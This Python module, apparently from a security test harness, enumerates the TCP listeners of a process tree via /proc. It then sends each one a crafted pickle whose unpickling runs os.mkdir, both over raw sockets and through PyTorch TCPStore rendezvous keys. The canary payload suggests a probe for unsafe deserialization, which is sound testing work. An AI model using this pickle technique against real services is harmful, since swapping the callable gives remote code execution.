"""The sockets that processes listen on, as Linux reports them, and an attack on each."""

from __future__ import annotations

import contextlib
import ipaddress
import os
import pickle
import socket
import struct
from collections.abc import Iterable
from datetime import timedelta
from pathlib import Path
from typing import NamedTuple

import torch.distributed as dist

_LISTENING = "0A"  # state of a TCP socket in /proc/net/tcp
_KEYS = ("genbench", "genbench-", "torch.rendezvous.", "complete", "arrived", "torchelastic/role_info/0")


class Listener(NamedTuple):
    """A TCP socket that accepts connections."""

    address: str
    port: int

    @property
    def loopback(self) -> bool:
        """Whether only this machine can connect."""
        return ipaddress.ip_address(self.address).is_loopback


def tree(pid: int) -> set[int]:
    """Return a process and all its descendants."""
    parents: dict[int, int] = {}
    for path in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            parents[int(path.parent.name)] = int(path.read_text().rpartition(")")[2].split()[1])
    found = {pid}
    while more := {child for child, parent in parents.items() if parent in found} - found:
        found |= more
    return found


def listeners(pids: Iterable[int]) -> set[Listener]:
    """Return the TCP sockets on which these processes accept connections."""
    inodes = set()
    for pid in pids:
        with contextlib.suppress(OSError):
            for link in Path(f"/proc/{pid}/fd").iterdir():
                with contextlib.suppress(OSError):
                    target = str(link.readlink())
                    if target.startswith("socket:["):
                        inodes.add(target[8:-1])
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == _LISTENING and fields[9] in inodes:
                address, _, port = fields[1].partition(":")
                words = struct.unpack(f">{len(address) // 8}I", bytes.fromhex(address))
                packed = struct.pack(f"<{len(words)}I", *words)
                found.add(Listener(str(ipaddress.ip_address(packed)), int(port, 16)))
    return found


class Command:
    """An object whose unpickling creates a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, int]]:
        return os.mkdir, (str(self.path), 0o700)


def attack(listener: Listener, keys: Iterable[str], mark: Path) -> None:
    """Send pickles that create `mark` to a listener: as raw bytes, and as values of a key-value store."""
    payload = pickle.dumps(Command(mark))
    for content in (payload, struct.pack("<q", len(payload)) + payload, b"GET / HTTP/1.0\r\n\r\n"):
        with contextlib.suppress(OSError), socket.create_connection((listener.address, listener.port), 1) as stream:
            stream.sendall(content)
    with contextlib.suppress(dist.DistError, RuntimeError):
        store = dist.TCPStore(listener.address, listener.port, is_master=False, timeout=timedelta(seconds=1))
        for key in (*_KEYS, *keys):
            for prefix in ("", "/worker/attempt_0/"):
                with contextlib.suppress(dist.DistError, RuntimeError):
                    store.set(prefix + key, payload)
